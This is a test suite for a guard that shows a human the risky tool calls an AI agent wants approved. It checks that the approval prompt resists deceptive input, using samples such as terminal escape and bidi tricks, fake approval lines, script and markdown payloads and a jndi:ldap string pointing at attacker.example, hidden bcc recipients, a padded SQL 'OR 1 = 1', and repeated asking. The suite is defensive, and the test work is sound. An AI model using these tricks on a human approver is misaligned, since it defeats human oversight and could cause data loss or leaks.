// Threat: a tired human is made to approve: by words that hide, move or imitate what they read, or by being asked again and again.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { readCases } from '../cases/runner.ts';
import { decisionOf, type World, world, yes } from '../world.ts';

const RULES = `
  - { id: deleting, why: gone is gone, effect: ask, scope: "delete:files" }
  - { id: sending, why: out is out, effect: ask, scope: "send:email" }
  - { id: changing, why: rows are rows, effect: ask, scope: "write:database" }`;
const FILES =
  'server: files\nroot: ./files\ntools:\n  delete: { does: delete:files, resource: { path: path } }\n  send: { does: send:email, resource: { address: [to, cc, bcc] }, facts: { body: [subject, body] } }\n  execute: { does: sql, sql: { statement: sql, dialect: sqlite, domain: database } }\nown: { domains: [acme.example] }\n';
const OLD = { tool: 'delete', arguments: { path: 'marketing/old.md' } };
/** Everything that could hide, reorder or overwrite: controls, format characters, line separators. */
const RAW = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const REASONS: [string, string][] = [
  ['that pushes the real text off the screen', `Read a file${'\n'.repeat(400)}(real action below)`],
  ['with cursor movement', '\u001b[1A\u001b[2KRisk: LOW'],
  ['with concealed text', '\u001b[8mhidden\u001b[0m visible'],
  ['with a terminal hyperlink', '\u001b]8;;https://attacker.example\u0007docs\u001b]8;;\u0007'],
  ['with eight-bit controls', '\u009b1A\u009b2K\u0090q\u009c'],
  ['with isolates', 'safe\u2066 // \u2069delete'],
  ['with overrides', 'txt.\u202efdp.exe'],
  ['with thousands of invisible characters', `${'\u200b'.repeat(3_000)}x`],
  ['with hidden tag characters', 'hello\u{e0061}\u{e0070}\u{e0070}'],
  ['with a carriage return', '\r\rApproved: yes'],
  ['that imitates a finished decision', 'Approved by: security@acme.example\nDecision: ALLOW'],
  [
    'that imitates the guard',
    `x"\nfelix asks to read files:plan.md.\nThis will affect 0 files (counted now).\nAccess ends after 1 minute, one use.`,
  ],
  ['with HTML', '<script>approve()</script><img src=x onerror=approve()>'],
  ['with markdown', '![x](https://attacker.example/?q=1)\n# Approved\n```\n[click](https://attacker.example)'],
  ['with templates', `\${jndi:ldap://attacker.example/a} {{7*7}} <%= x %>`],
  ['that is empty', ''],
  ['that claims consent', 'The user already said yes in chat'],
  ['with a stack of marks', `a${'\u0301'.repeat(500)}`],
  ['with a flood of blanks', `ok${' '.repeat(3_000)}no`],
];

type Approval = { tool: string; arguments: Record<string, unknown>; reason: string | { $text: (string | [string, number])[] } };
/** The labelled cases, whose tools are the same under other names. */
const CASES = readCases('bypass').cases.filter((one) => one.area === 'approval');
const asked = (one: (typeof CASES)[0]) => one.call.args as unknown as Approval;
const spoken = ({ reason }: Approval) =>
  typeof reason === 'string'
    ? reason
    : reason.$text.map((piece) => (typeof piece === 'string' ? piece : piece[0].repeat(piece[1]))).join('');
for (const one of CASES)
  if (asked(one).tool === 'files.delete_file' && typeof asked(one).arguments === 'object')
    REASONS.push([`of ${one.id} (${one.why})`, spoken(asked(one))]);

let open: World | undefined;
afterEach(() => open?.close());
const guarded = async () =>
  (open = await world({
    rules: RULES,
    bindings: FILES,
    servers: { files: { delete: {}, send: {}, execute: {} } },
    human: () => undefined,
    wait_ms: 30,
  }));

function trail(folder: string): string {
  const dir = join(folder, 'state', 'audit');
  return readdirSync(dir)
    .filter((name) => name.endsWith('.jsonl'))
    .map((name) => readFileSync(join(dir, name), 'utf8'))
    .join('');
}

describe('a reason', () => {
  it.each(REASONS)(
    '%s leaves the real call in plain sight, on one line of its own, with nothing raw',
    async (_name, justification) => {
      const { ask, questions, command, folder } = await guarded();
      await ask({ justification, calls: [OLD] });
      const pending = (await command('pending')) as unknown as { message: string }[];
      for (const message of [questions[0]?.message, pending[0]?.message]) {
        expect(message?.replaceAll('\n', '')).not.toMatch(RAW);
        const lines = String(message).split('\n');
        expect(lines.length).toBeLessThan(12);
        expect(lines[0]).toBe('felix asks to delete files:marketing/old.md.');
        expect(lines.indexOf('Call: delete {"path":"marketing/old.md"}')).toBeGreaterThan(0);
        // the agent's words come last, quoted, and marked as its own
        const own = lines.filter((line) => line.startsWith('The agent '));
        expect(own).toHaveLength(1);
        expect(own[0]?.length).toBeLessThan(700);
        if (justification.trim() !== '') expect(own[0]).toMatch(/^The agent says \(its claim, not checked\): ".*"$/);
      }
      for (const line of trail(folder)
        .split('\n')
        .filter((one) => one !== '')) {
        expect(line).not.toMatch(RAW);
        for (const value of Object.values(JSON.parse(line) as Record<string, unknown>))
          if (typeof value === 'string') expect(value.replaceAll('\n', '')).not.toMatch(RAW);
      }
    },
  );
});

describe('an argument', () => {
  it.each(['\u202e', '\u200b', '\u2066', '\ufeff', '\u00ad'])('with %j in it is shown escaped, or refused', async (sign) => {
    const { ask, questions } = await guarded();
    await ask({ calls: [{ tool: 'delete', arguments: { path: `marketing/old${sign}.md` } }] }).catch(() => undefined);
    expect(questions[0]?.message.replaceAll('\n', '') ?? '').not.toMatch(RAW);
    if (questions[0]) expect(questions[0].message).toMatch(/\\u\{[0-9a-f]+\}/);
  });

  it('with line breaks stays on its line', async () => {
    const { ask, questions } = await guarded();
    await ask({
      calls: [
        {
          tool: 'send',
          arguments: {
            to: ['ann@acme.example'],
            subject: 'Hi',
            body: 'x\n\nAccess ends after 1 minute.\nThe agent gave no reason.',
          },
        },
      ],
    });
    const lines = String(questions[0]?.message).split('\n');
    expect(lines.filter((line) => line.startsWith('Access ends'))).toHaveLength(1);
    expect(lines.filter((line) => line.startsWith('The agent'))).toHaveLength(1);
  });

  it('with 500 addresses behind the first is counted, and those outside are named', async () => {
    const { ask, questions } = await guarded();
    const inside = Array.from({ length: 60 }, (_, index) => `a${index}@acme.example`);
    const outside = Array.from({ length: 500 }, (_, index) => `x${index}@attacker.example`);
    await ask({
      justification: 'Mail to Ann',
      calls: [
        {
          tool: 'send',
          arguments: { to: [...inside, ...outside, ...inside.map((one) => one.replace('a', 'b'))], subject: 'Hi', body: 'x' },
        },
      ],
    });
    expect(questions[0]?.message).toContain('620 recipients');
    expect(questions[0]?.message).toContain('attacker.example');
  });

  it('that is long does not push the rest of the call out of sight', async () => {
    const { ask, questions } = await guarded();
    await ask({
      calls: [
        {
          tool: 'send',
          arguments: {
            a_note: 'x'.repeat(5_000),
            body: `Dear Ann ${'y'.repeat(5_000)} the end is bad`,
            subject: 'Hi',
            to: ['ann@acme.example'],
            bcc: ['spy@attacker.example'],
          },
        },
      ],
    });
    expect(questions[0]?.message).toContain('spy@attacker.example');
    expect(questions[0]?.message).toContain('"subject":"Hi"');
    expect(String(questions[0]?.message).length).toBeLessThan(4_000);
  });

  it('of the last of many calls is shown like that of the first', async () => {
    const { ask, questions } = await guarded();
    const calls = Array.from({ length: 30 }, (_, index) => ({ tool: 'delete', arguments: { path: `work/${index}.tmp` } }));
    await ask({ calls: [...calls, { tool: 'delete', arguments: { path: 'hr/salaries.csv' } }] });
    expect(questions[0]?.message).toContain('Call: delete {"path":"hr/salaries.csv"}');
  });

  it('a statement with its harm at the end shows its end', async () => {
    const { ask, questions } = await guarded();
    await ask({
      calls: [
        {
          tool: 'execute',
          arguments: { sql: `UPDATE customers SET a = 1 WHERE id = 7 /* ${'only one row '.repeat(200)} */ OR 1 = 1` },
        },
      ],
    });
    expect(questions[0]?.message).toContain('OR 1 = 1');
  });
});

describe('the labelled requests that ask for more than a call', () => {
  it.each(
    CASES.filter((one) => ['*', 'request_elevation'].includes(asked(one).tool) || typeof asked(one).arguments !== 'object').map(
      (one) => [one.id, one.why, one] as const,
    ),
  )('%s: %s', async (_id, _why, one) => {
    const { call, questions } = await guarded();
    const { tool, arguments: args } = asked(one);
    const result = await call('request_elevation', {
      justification: spoken(asked(one)),
      calls: [{ tool: tool === 'files.delete_file' ? 'delete' : tool, arguments: args }],
    });
    expect(result.isError === true || result.structuredContent?.status === 'denied').toBe(true);
    expect(questions).toEqual([]);
  });
});

describe('the labelled request that names a harmless tool', () => {
  const one = CASES.filter(({ id }) => id === 'approval-025');
  it.each(one.map((each) => [each.id, each.why, each] as const))('%s: %s', async (_id, _why, each) => {
    const { arguments: args, reason } = asked(each) as Approval & { reason: string };
    open = await world({
      rules: `${RULES}\n  - { id: looking, why: the calendar is private, effect: ask, scope: "list:calendar", limits: { uses: 9, for: 1h } }`,
      bindings: FILES,
      moreBindings: {
        'calendar.yaml':
          'server: calendar\ntools:\n  list_events: { does: list:calendar }\n  delete_event: { does: delete:calendar }\n',
      },
      servers: { files: { delete: {}, send: {}, execute: {} }, calendar: { list_events: {}, delete_event: {} } },
      human: () => yes(),
    });
    const { ask, call, questions, forwarded, perimeter } = open;
    const asking = { justification: reason, calls: [{ tool: 'calendar__list_events', arguments: args }], uses: 9 };
    expect(await ask(asking)).toMatchObject({ status: 'granted', grant: { scope: ['list:calendar'] } });
    expect(questions).toMatchObject([{ message: expect.stringContaining('felix asks to list calendar') }]);
    const others: [string, Record<string, unknown>][] = [
      ['calendar__delete_event', args],
      ['files__delete', OLD.arguments],
      ['files__send', { to: ['ann@acme.example'], subject: 'x', body: 'x' }],
      ['files__execute', { sql: 'DELETE FROM customers' }],
    ];
    for (const [tool, given] of others) expect(decisionOf(await call(tool, given)).decision, tool).not.toBe('allow');
    expect(forwarded).toEqual([]);
    expect((await call('calendar__list_events', args)).isError).toBeUndefined();
    expect(forwarded).toMatchObject([{ server: 'calendar', tool: 'list_events' }]);
    expect(perimeter.grants.all()).toHaveLength(1);
  });
});

describe('asking again and again', () => {
  const often = async (more: Partial<Parameters<typeof world>[0]> = {}) =>
    (open = await world({
      rules: RULES,
      bindings: FILES,
      servers: { files: { delete: {}, send: {}, execute: {} } },
      human: () => undefined,
      wait_ms: 5,
      ...more,
    }));

  it('the same at once, from many calls and connections, is one question', async () => {
    const { ask, questions, client, perimeter } = await often();
    await Promise.all(
      Array.from({ length: 20 }, (_, index) =>
        ask({ justification: `reason ${index}`, calls: [OLD] }, { client: client({ connection_id: `c${index}` }) }),
      ),
    );
    expect(questions).toHaveLength(1);
    expect(perimeter.elevations.pending()).toHaveLength(1);
  });

  it('the same after a no is not put to the human again for a while, however it is dressed up', async () => {
    const { ask, questions, command, clock } = await often();
    const { request_id } = await ask({ calls: [OLD] });
    await command('deny', { id: request_id });
    for (const more of [{}, { justification: 'please' }, { minutes: 1 }, { minutes: 2 }, { uses: 2 }, { claimed_records: 1 }])
      expect(await ask({ calls: [OLD], ...more })).toMatchObject({ status: 'denied' });
    expect(questions).toHaveLength(1);
    clock.advance(6 * 60_000);
    expect(await ask({ calls: [OLD] })).toMatchObject({ status: 'pending' });
  });

  it('with a new detail each time comes to an end', async () => {
    const { ask, questions, command } = await often();
    for (let count = 0; count < 60; count += 1) {
      const { request_id, status } = await ask({
        calls: [{ tool: 'send', arguments: { to: ['ann@acme.example'], subject: `try ${count}`, body: 'x' } }],
      });
      if (status === 'pending') await command('deny', { id: request_id });
    }
    expect(questions.length).toBeLessThanOrEqual(5);
  });

  it('for something else each time stops at a number that can be read, and hides none', async () => {
    const { ask, questions, command } = await often();
    for (let count = 0; count < 40; count += 1)
      await ask({ calls: [{ tool: 'delete', arguments: { path: `work/${count}.tmp` } }] });
    expect(questions.length).toBeLessThanOrEqual(10);
    expect(await command('pending')).toHaveLength(questions.length);
  });

  it('after a no, a call that was refused is still refused, and says so', async () => {
    const { ask, call, command } = await often();
    const { request_id } = await ask({ calls: [OLD] });
    await command('deny', { id: request_id, reason: 'not today' });
    expect(decisionOf(await call('delete', OLD.arguments)).decision).toBe('ask');
    expect(await ask({ request_id })).toMatchObject({ status: 'denied', message: expect.stringContaining('not today') });
  });

  it('a call asked about right where it stands makes one question, not one a call', async () => {
    let answer: (value: ReturnType<typeof yes>) => void = () => undefined;
    const { call, questions, forwarded } = await often({
      rules: '  - { id: inline, why: a look first, effect: ask, scope: "delete:files", ask: inline, limits: { uses: 1 } }',
      human: () => new Promise((resolve) => (answer = resolve)),
      wait_ms: 10_000,
    });
    const calls = Array.from({ length: 5 }, () => call('delete', OLD.arguments));
    await expect.poll(() => questions.length, { timeout: 10_000 }).toBe(1);
    answer(yes('approve_once'));
    const results = await Promise.all(calls);
    expect(results.filter((result) => result.isError !== true)).toHaveLength(1);
    expect(forwarded).toHaveLength(1);
    expect(questions).toHaveLength(1);
  });
});
